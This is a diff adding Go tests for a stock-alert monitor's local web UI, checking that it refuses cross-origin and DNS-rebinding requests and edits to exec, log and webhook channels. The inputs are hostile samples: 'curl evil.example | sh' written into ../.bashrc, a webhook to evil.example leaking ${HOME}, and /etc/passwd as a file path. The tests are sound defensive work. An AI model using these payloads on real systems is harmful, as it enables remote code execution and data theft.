@@ -0,0 +1,269 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func postConfig(t *testing.T, mux http.Handler, body string, headers map[string]string) *httptest.ResponseRecorder {
+	t.Helper()
+	req := httptest.NewRequest(http.MethodPost, "http://127.0.0.1:8080/api/config", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	for name, value := range headers {
+		req.Header.Set(name, value)
+	}
+	rec := httptest.NewRecorder()
+	mux.ServeHTTP(rec, req)
+	return rec
+}
+
+func TestWebUIRejectsForgedRequests(t *testing.T) {
+	dir := t.TempDir()
+	mux := newWebUIMux(dir, nil)
+	payload := `{"rules": {"AAPL": [{"threshold": 150}]}, "settings": {"pollInterval": "2m"}}`
+
+	cases := map[string]map[string]string{
+		"text/plain":     {"Content-Type": "text/plain"},
+		"foreign origin": {"Origin": "http://evil.example"},
+		"rebound host":   {"Host": "evil.example:8080", "Origin": "http://evil.example:8080"},
+	}
+	for name, headers := range cases {
+		req := httptest.NewRequest(http.MethodPost, "http://127.0.0.1:8080/api/config", strings.NewReader(payload))
+		req.Header.Set("Content-Type", "application/json")
+		for header, value := range headers {
+			if header == "Host" {
+				req.Host = value
+				continue
+			}
+			req.Header.Set(header, value)
+		}
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, req)
+		if rec.Code != http.StatusForbidden {
+			t.Fatalf("%s: expected 403, got %d: %s", name, rec.Code, rec.Body.String())
+		}
+	}
+	if _, err := os.Stat(filepath.Join(dir, "stocks.json")); !os.IsNotExist(err) {
+		t.Fatalf("expected forged requests not to write stocks.json: %v", err)
+	}
+
+	if rec := postConfig(t, mux, payload, map[string]string{"Origin": "http://127.0.0.1:8080"}); rec.Code != http.StatusOK {
+		t.Fatalf("expected a same-origin save to succeed, got %d: %s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestWebUIRejectsReboundHostOnEveryRoute(t *testing.T) {
+	mux := newWebUIMux(t.TempDir(), nil)
+	for _, path := range []string{"/", "/api/config", "/api/state", "/api/status"} {
+		req := httptest.NewRequest(http.MethodGet, "http://evil.example:8080"+path, nil)
+		rec := httptest.NewRecorder()
+		mux.ServeHTTP(rec, req)
+		if rec.Code != http.StatusForbidden {
+			t.Fatalf("GET %s: expected 403 for a rebound host, got %d: %s", path, rec.Code, rec.Body.String())
+		}
+
+		req = httptest.NewRequest(http.MethodGet, "http://localhost:8080"+path, nil)
+		rec = httptest.NewRecorder()
+		mux.ServeHTTP(rec, req)
+		if rec.Code == http.StatusForbidden {
+			t.Fatalf("GET %s: expected localhost to be served, got 403: %s", path, rec.Body.String())
+		}
+	}
+}
+
+func TestWebUIKeepsChannelsReadOnly(t *testing.T) {
+	dir := t.TempDir()
+	mux := newWebUIMux(dir, nil)
+
+	added := `{"rules": {}, "settings": {"channels": [{"type": "exec", "exec": {"command": "/bin/true"}}]}}`
+	if rec := postConfig(t, mux, added, nil); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "channels") {
+		t.Fatalf("expected adding an exec channel to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	logged := `{"rules": {}, "settings": {"channels": [{"type": "log", "log": {"path": "../.bashrc"}, "templates": {"alertBody": "curl evil.example | sh"}}]}}`
+	if rec := postConfig(t, mux, logged, nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected adding a log channel to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	if _, err := os.Stat(filepath.Join(dir, "..", ".bashrc")); !os.IsNotExist(err) {
+		t.Fatalf("expected no file to be written outside the config directory: %v", err)
+	}
+
+	saved := AppSettings{Channels: []ChannelSettings{
+		{Type: "exec", Exec: &ExecConfig{Command: "/bin/true", Args: []string{"a"}}},
+		{Type: "webhook", Webhook: &WebhookConfig{URL: "http://127.0.0.1:9/hook"}},
+	}}
+	if err := writeAppSettings(dir, saved); err != nil {
+		t.Fatalf("write settings: %v", err)
+	}
+	changed := `{"rules": {}, "settings": {"channels": [{"type": "exec", "exec": {"command": "/bin/sh", "args": ["a"]}}, {"type": "webhook", "webhook": {"url": "http://127.0.0.1:9/hook"}}]}}`
+	if rec := postConfig(t, mux, changed, nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected changing an exec channel to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	leaked := `{"rules": {}, "settings": {"channels": [{"type": "exec", "exec": {"command": "/bin/true", "args": ["a"]}}, {"type": "webhook", "webhook": {"url": "http://evil.example/hook", "headers": {"X-Leak": "${HOME}"}}}]}}`
+	if rec := postConfig(t, mux, leaked, nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected changing a webhook channel to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	removed := `{"rules": {}, "settings": {"channels": [{"type": "webhook", "webhook": {"url": "http://127.0.0.1:9/hook"}}]}}`
+	if rec := postConfig(t, mux, removed, nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected removing an exec channel to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+
+	unchanged := `{"rules": {}, "settings": {"pollInterval": "2m", "channels": [{"type": "exec", "exec": {"command": "/bin/true", "args": ["a"]}}, {"type": "webhook", "webhook": {"url": "http://127.0.0.1:9/hook"}}]}}`
+	if rec := postConfig(t, mux, unchanged, nil); rec.Code != http.StatusOK {
+		t.Fatalf("expected saving with the channels as loaded to succeed, got %d: %s", rec.Code, rec.Body.String())
+	}
+	omitted := `{"rules": {}, "settings": {"pollInterval": "3m"}}`
+	if rec := postConfig(t, mux, omitted, nil); rec.Code != http.StatusOK {
+		t.Fatalf("expected saving without channels to succeed, got %d: %s", rec.Code, rec.Body.String())
+	}
+	settings, err := readAppSettings(dir)
+	if err != nil || settings.PollInterval != "3m" || len(settings.Channels) != 2 || settings.Channels[1].Webhook.URL != "http://127.0.0.1:9/hook" {
+		t.Fatalf("expected the saved channels to be carried over, got %+v (%v)", settings, err)
+	}
+}
+
+func TestWebUIKeepsTemplatesAndHolidaysFileReadOnly(t *testing.T) {
+	dir := t.TempDir()
+	mux := newWebUIMux(dir, nil)
+
+	templated := `{"rules": {}, "settings": {"templates": {"alertTitle": "{{.Symbol}}"}}}`
+	if rec := postConfig(t, mux, templated, nil); rec.Code != http.StatusBadRequest {
+		t.Fatalf("expected changing templates to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	holidays := `{"rules": {}, "settings": {"marketHours": {"holidaysFile": "/etc/passwd"}}}`
+	if rec := postConfig(t, mux, holidays, nil); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "holidays file cannot") {
+		t.Fatalf("expected changing the holidays file to be refused, got %d: %s", rec.Code, rec.Body.String())
+	}
+	disabled := `{"rules": {}, "settings": {"marketHours": {"disabled": true}}}`
+	if rec := postConfig(t, mux, disabled, nil); rec.Code != http.StatusOK {
+		t.Fatalf("expected other market hours settings to be saved, got %d: %s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestWebUIServesRulesWithoutDerivedIDs(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "stocks.json"), []byte(`{"AAPL": [{"threshold": 180}, {"id": "dip", "threshold": 150}]}`), 0o644); err != nil {
+		t.Fatalf("write stocks.json: %v", err)
+	}
+	server := httptest.NewServer(newWebUIMux(dir, nil))
+	defer server.Close()
+
+	var config configPayload
+	getJSON(t, server.URL+"/api/config", &config)
+	if rules := config.Rules["AAPL"]; len(rules) != 2 || rules[0].ID != "" || rules[1].ID != "dip" {
+		t.Fatalf("expected only the explicit id to be served, got: %+v", config.Rules)
+	}
+	if keys := config.Keys["AAPL"]; len(keys) != 2 || keys[0] != "AAPL#below-180" || keys[1] != "AAPL#dip" {
+		t.Fatalf("expected the state key of every rule, got: %v", config.Keys)
+	}
+
+	edited := `{"rules": {"AAPL": [{"threshold": 175}, {"id": "dip", "threshold": 150}]}, "settings": {}}`
+	if rec := postConfig(t, newWebUIMux(dir, nil), edited, nil); rec.Code != http.StatusOK {
+		t.Fatalf("save failed with %d: %s", rec.Code, rec.Body.String())
+	}
+	rules, err := readJSONData(dir)
+	if err != nil || rules["AAPL"][0].ID != "below-175" {
+		t.Fatalf("expected the edited rule to get a new derived id, got %+v (%v)", rules, err)
+	}
+}
+
+func TestWebUIReportsRuleErrorsAsIs(t *testing.T) {
+	mux := newWebUIMux(t.TempDir(), nil)
+	band := `{"rules": {"AAPL": [{"direction": "between", "lower": 200, "upper": 100}]}, "settings": {}}`
+	rec := postConfig(t, mux, band, nil)
+	if rec.Code != http.StatusBadRequest || strings.Contains(rec.Body.String(), "invalid direction") || !strings.Contains(rec.Body.String(), "less than upper") {
+		t.Fatalf("expected the band error to be reported, got %d: %s", rec.Code, rec.Body.String())
+	}
+}
+
+func TestWebUIServesAndChecksTheMonitorsConfig(t *testing.T) {
+	useFakeProviders(t, &fakeQuoteProvider{name: "fake", price: 100})
+	monitor, _ := newTestMonitor(t, `{"AAA": 150}`, AppSettings{PollInterval: "3m"})
+	monitor.poll(context.Background())
+	// Edits on disk that the monitor has not picked up yet are not served.
+	if err := os.WriteFile(filepath.Join(monitor.dir, "stocks.json"), []byte(`{"ZZZ": 10}`), 0o644); err != nil {
+		t.Fatalf("write stocks.json: %v", err)
+	}
+	if err := writeAppSettings(monitor.dir, AppSettings{PollInterval: "9m"}); err != nil {
+		t.Fatalf("write settings: %v", err)
+	}
+
+	server := httptest.NewServer(newWebUIMux(monitor.dir, monitor))
+	defer server.Close()
+
+	var config configPayload
+	getJSON(t, server.URL+"/api/config", &config)
+	if len(config.Rules["AAA"]) != 1 || config.Rules["ZZZ"] != nil || config.Settings.PollInterval != "3m" {
+		t.Fatalf("expected the monitor's rules and settings, got: %+v", config)
+	}
+
+	resp, err := http.Post(server.URL+"/api/check", "application/json", nil)
+	if err != nil {
+		t.Fatalf("check failed: %v", err)
+	}
+	defer resp.Body.Close()
+	var results []quoteCheckResult
+	if err := json.NewDecoder(resp.Body).Decode(&results); err != nil {
+		t.Fatalf("decode check results: %v", err)
+	}
+	if len(results) != 1 || results[0].Symbol != "AAA" || !results[0].Triggered || !results[0].Latched {
+		t.Fatalf("expected the monitor's rules to be checked, got: %+v", results)
+	}
+}
+
+func TestWebUIServesMonitorStatusAndReloadsOnSave(t *testing.T) {
+	useFakeProviders(t, &fakeQuoteProvider{name: "fake", price: 100})
+	monitor, _ := newTestMonitor(t, `{"AAA": 150, "BBB": 50}`, AppSettings{})
+	monitor.poll(context.Background())
+	// Without the state file the UI can only answer from the monitor's memory.
+	if err := os.Remove(filepath.Join(monitor.dir, alertStateFile)); err != nil {
+		t.Fatalf("remove state file: %v", err)
+	}
+
+	server := httptest.NewServer(newWebUIMux(monitor.dir, monitor))
+	defer server.Close()
+
+	var status monitorStatus
+	getJSON(t, server.URL+"/api/status", &status)
+	if status.Quotes["AAA"].Price != 100 || status.NextPoll.Before(status.LastPoll) || status.SleepReason == "" {
+		t.Fatalf("unexpected monitor status: %+v", status)
+	}
+
+	var states map[string]ruleStatus
+	getJSON(t, server.URL+"/api/state", &states)
+	if !states["AAA"].InAlert || states["BBB"].InAlert {
+		t.Fatalf("expected rule status from the monitor's memory, got: %+v", states)
+	}
+
+	payload := `{"rules": {"AAA": [{"threshold": 120}]}, "settings": {"providers": ["fake"], "channels": [{"type": "recording"}], "marketHours": {"disabled": true}}}`
+	resp, err := http.Post(server.URL+"/api/config", "application/json", strings.NewReader(payload))
+	if err != nil {
+		t.Fatalf("save failed: %v", err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("save returned %s", resp.Status)
+	}
+	select {
+	case <-monitor.reload:
+	default:
+		t.Fatalf("expected saving to request a monitor reload")
+	}
+}
+
+func getJSON(t *testing.T, url string, target any) {
+	t.Helper()
+	resp, err := http.Get(url)
+	if err != nil {
+		t.Fatalf("GET %s failed: %v", url, err)
+	}
+	defer resp.Body.Close()
+	if err := json.NewDecoder(resp.Body).Decode(target); err != nil {
+		t.Fatalf("decode %s: %v", url, err)
+	}
+}